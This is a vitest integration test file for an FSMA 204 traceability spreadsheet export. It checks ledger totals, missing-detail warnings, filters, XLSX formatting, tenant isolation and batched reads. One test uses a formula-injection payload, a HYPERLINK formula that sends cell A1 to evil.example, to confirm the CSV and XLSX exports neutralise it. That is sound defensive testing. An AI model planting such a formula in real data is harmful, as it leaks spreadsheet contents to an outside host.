// The FSMA 204 sortable spreadsheet against a real ledger: every shipped unit exactly once and
// per-lot totals equal to the ledger, the filters, the XLSX a regulator opens (frozen header,
// autofilter, real dates), formula injection neutralised, and missing details flagged.
import { mkdtemp, readFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { db } from "../../app/db.server";
import { env } from "../../app/env.server";
import { requestExport } from "../../app/exports/exports.server";
import { copyFsma204Rows, readFsma204Rows } from "../../app/exports/fsma204.server";
import { FSMA204_COLUMNS } from "../../app/exports/fsma204-rows";
import { runExport } from "../../app/exports/run-export.server";
import { updateTraceDetails } from "../../app/exports/trace-details.server";
import { WAREHOUSE } from "../support/allocation-factories";
import { parseCsv } from "../support/csv-rows";
import { ledgerTotals, SUPPLIER, seedExportShop } from "../support/export-factories";
import { createShop } from "../support/factories";

let dataDir: string;
const noQueue = { enqueue: async () => undefined };

beforeAll(async () => {
  dataDir = await mkdtemp(path.join(tmpdir(), "lotline-fsma-"));
});

beforeEach(async () => {
  await db().shop.deleteMany();
});

const column = (header: string) => FSMA204_COLUMNS.findIndex((c) => c.header === header);
const CTE = column("Critical tracking event");
const TLC = column("Traceability lot code");
const QTY = column("Quantity");
const RECIPIENT = column("Previous source / subsequent recipient: business name");
const RECIPIENT_ADDRESS = column("Previous source / subsequent recipient: address");
const HERE_ADDRESS = column("Event location: address");
const DOC_NUMBER = column("Reference document number");
const EVENT_ID = column("Ledger event id");

async function exportFsma(shopId: string, format: "csv" | "xlsx", parameters: Record<string, unknown> = {}) {
  const job = await requestExport(db(), { shopId, kind: "fsma204", format, parameters, actor: "user:1" }, noQueue);
  await runExport(db(), { shopId, exportJobId: job.id }, { dataDir });
  const done = await db().exportJob.findUniqueOrThrow({ where: { id: job.id } });
  const file = path.join(dataDir, "exports", done.storagePath!);
  return { job: done, file };
}

async function csvRows(shopId: string, parameters: Record<string, unknown> = {}) {
  const { job, file } = await exportFsma(shopId, "csv", parameters);
  const [header, ...rows] = parseCsv(await readFile(file, "utf8"));
  return { job, header, rows };
}

function sumBy(rows: string[][], cte: string) {
  const totals = new Map<string, number>();
  for (const row of rows.filter((r) => r[CTE] === cte))
    totals.set(row[TLC], (totals.get(row[TLC]) ?? 0) + Number(row[QTY]));
  return totals;
}

describe("the FSMA 204 spreadsheet", () => {
  it("lists every shipped unit exactly once and adds up per lot to the ledger", async () => {
    const seeded = await seedExportShop(db());
    const { job, header, rows } = await csvRows(seeded.shop.id);

    expect(header).toEqual(FSMA204_COLUMNS.map((c) => c.header));
    expect(job).toMatchObject({ status: "completed", processedRows: rows.length, totalRows: rows.length });
    expect(job.fileName).toMatch(/^fsma204-start-to-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(job.expiresAt!.getTime() - job.completedAt!.getTime()).toBe(7 * 24 * 60 * 60 * 1000);

    const shippedEvents = await db().lotEvent.findMany({ where: { shopId: seeded.shop.id, type: "shipped" } });
    const shippingRows = rows.filter((row) => row[CTE] === "Shipping");
    expect(shippingRows.map((row) => row[EVENT_ID]).sort()).toEqual(shippedEvents.map((e) => e.id).sort());

    const ledger = await ledgerTotals(db(), seeded.shop.id);
    const shipped = sumBy(rows, "Shipping");
    const received = sumBy(rows, "Receiving");
    const returned = sumBy(rows, "Receiving (return)");
    for (const [code, totals] of ledger) {
      expect({
        code,
        shipped: shipped.get(code) ?? 0,
        received: received.get(code) ?? 0,
        returned: returned.get(code) ?? 0,
      }).toEqual({
        code,
        ...totals,
      });
    }
    // 4 + 3 + 2 soap and 2 + 1 candles left; the refunded 2 units of #E2 never shipped.
    expect([...shipped.values()].reduce((a, b) => a + b, 0)).toBe(12);
    expect([...returned.values()]).toEqual([1]);

    const e2 = shippingRows.filter((row) => row[DOC_NUMBER] === "#E2");
    expect(e2.map((row) => Number(row[QTY])).reduce((a, b) => a + b, 0)).toBe(3);
    expect(e2[0][RECIPIENT]).toBe("Ben Cole");
    expect(e2[0][RECIPIENT_ADDRESS]).toBe("9 Canal St, Leeds, WYK, LS1 4AB, GB");
    const receiving = rows.find((row) => row[CTE] === "Receiving" && row[DOC_NUMBER] === "INV-4711")!;
    expect(receiving[RECIPIENT]).toBe(SUPPLIER);
  });

  it("flags missing location, supplier and recipient details in the cells and on the job, never blank", async () => {
    const seeded = await seedExportShop(db());
    const { job, rows } = await csvRows(seeded.shop.id);

    expect(rows.every((row) => row[HERE_ADDRESS] === "MISSING: address")).toBe(true);
    const pickup = rows.find((row) => row[DOC_NUMBER] === "#E4")!;
    expect(pickup[RECIPIENT]).toBe("Corner Deli Ltd");
    expect(pickup[RECIPIENT_ADDRESS]).toBe("MISSING: shipping address");
    const codes = (job.warnings as { code: string; message: string }[]).map((w) => w.code);
    expect(codes).toEqual(
      expect.arrayContaining([
        "LOCATION_BUSINESS_NAME_MISSING",
        "LOCATION_ADDRESS_MISSING",
        "SUPPLIER_ADDRESS_MISSING",
        "RECIPIENT_ADDRESS_MISSING",
      ]),
    );
    const recipient = (job.warnings as { code: string; message: string }[]).find(
      (w) => w.code === "RECIPIENT_ADDRESS_MISSING",
    )!;
    expect(recipient.message).toContain("1 shipment has no shipping address");

    await updateTraceDetails(db(), {
      shopId: seeded.shop.id,
      actor: "user:1",
      details: {
        gs1CompanyPrefix: "",
        locations: {
          [WAREHOUSE]: { businessName: "Soap Co Workshop", phone: "+44 113 000 0000", address: "2 Dock St, Leeds" },
        },
        suppliers: { [SUPPLIER]: { phone: "+44 20 0000 0000", address: "Unit 4, Oxford" } },
      },
    });
    const again = await csvRows(seeded.shop.id);
    expect(again.rows.every((row) => row[HERE_ADDRESS] === "2 Dock St, Leeds")).toBe(true);
    const againCodes = (again.job.warnings as { code: string }[]).map((w) => w.code);
    expect(againCodes).not.toContain("LOCATION_ADDRESS_MISSING");
    // The second supplier is still undescribed.
    expect(againCodes).toContain("SUPPLIER_ADDRESS_MISSING");
  });

  it("filters by date range, lot code range and product", async () => {
    const seeded = await seedExportShop(db());
    const shopId = seeded.shop.id;

    const november = await csvRows(shopId, { from: "2026-11-10", to: "2026-11-15" });
    expect(new Set(november.rows.map((row) => row[DOC_NUMBER]))).toEqual(new Set(["#E2", "#E3"]));
    expect(november.job.fileName).toBe("fsma204-2026-11-10-to-2026-11-15.csv");

    const [, secondSoapLot] = seeded.soap.lotCodes;
    const lotRange = await csvRows(shopId, { lotFrom: secondSoapLot, lotTo: secondSoapLot });
    expect(lotRange.rows.length).toBeGreaterThan(0);
    expect(lotRange.rows.every((row) => row[TLC] === secondSoapLot)).toBe(true);

    const candles = await csvRows(shopId, { productId: seeded.candle.productId });
    expect(new Set(candles.rows.map((row) => row[TLC]))).toEqual(new Set(seeded.candle.lotCodes));
    expect(sumBy(candles.rows, "Shipping").get(seeded.candle.lotCodes[0])).toBe(3);
  });

  it("writes an XLSX with the header frozen, the autofilter on and dates as dates", async () => {
    const seeded = await seedExportShop(db());
    const { job, file } = await exportFsma(seeded.shop.id, "xlsx");
    expect(job.fileName).toMatch(/\.xlsx$/);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0];
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(String(sheet.autoFilter)).toMatch(/^A1:[A-Z]+1$/);
    expect(sheet.getRow(1).getCell(1).value).toBe("Critical tracking event");
    const date = sheet.getRow(2).getCell(column("Event date") + 1);
    expect(date.value).toBeInstanceOf(Date);
    expect(date.numFmt).toBe("yyyy-mm-dd");
    expect(sheet.getRow(2).getCell(QTY + 1).value).toEqual(expect.any(Number));
    expect(sheet.rowCount - 1).toBe(job.processedRows);
  });

  it("neutralises a supplier name that is a formula, in CSV and in XLSX", async () => {
    const seeded = await seedExportShop(db());
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await db().receipt.updateMany({
      where: { shopId: seeded.shop.id, supplierName: SUPPLIER },
      data: { supplierName: formula },
    });

    const csv = await csvRows(seeded.shop.id);
    const cells = csv.rows.filter((row) => row[DOC_NUMBER] === "INV-4711").map((row) => row[RECIPIENT]);
    expect(cells.length).toBeGreaterThan(0);
    expect(cells.every((cell) => cell === `'${formula}`)).toBe(true);

    const { file } = await exportFsma(seeded.shop.id, "xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const values: unknown[] = [];
    workbook.worksheets[0].eachRow((row) => {
      if (row.getCell(DOC_NUMBER + 1).value === "INV-4711") values.push(row.getCell(RECIPIENT + 1).value);
    });
    expect(values.length).toBeGreaterThan(0);
    expect(values.every((value) => value === `'${formula}`)).toBe(true);
  });

  it("never includes another shop's ledger", async () => {
    const seeded = await seedExportShop(db());
    const other = await createShop(db());
    await seedExportShop(db(), { shop: other });
    const { rows } = await csvRows(seeded.shop.id);
    const ownIds = new Set(
      (await db().lotEvent.findMany({ where: { shopId: seeded.shop.id }, select: { id: true } })).map((e) => e.id),
    );
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((row) => ownIds.has(row[EVENT_ID]))).toBe(true);
  });

  it("reads the same rows through keyset batches (embedded database) as through COPY (PostgreSQL server)", async () => {
    const seeded = await seedExportShop(db());
    const filters = { from: "2026-10-01", productId: seeded.soap.productId };
    const viaCopy = [];
    for await (const batch of copyFsma204Rows(env().DATABASE_URL!, seeded.shop.id, filters)) viaCopy.push(...batch);
    const viaKeyset = [];
    // Batches of 3 rows: many page boundaries, some inside a group of rows with the same timestamp.
    for await (const batch of readFsma204Rows(db(), seeded.shop.id, filters, 3)) viaKeyset.push(...batch);
    expect(viaCopy.length).toBeGreaterThan(3);
    expect(viaKeyset).toEqual(viaCopy);
  });
});
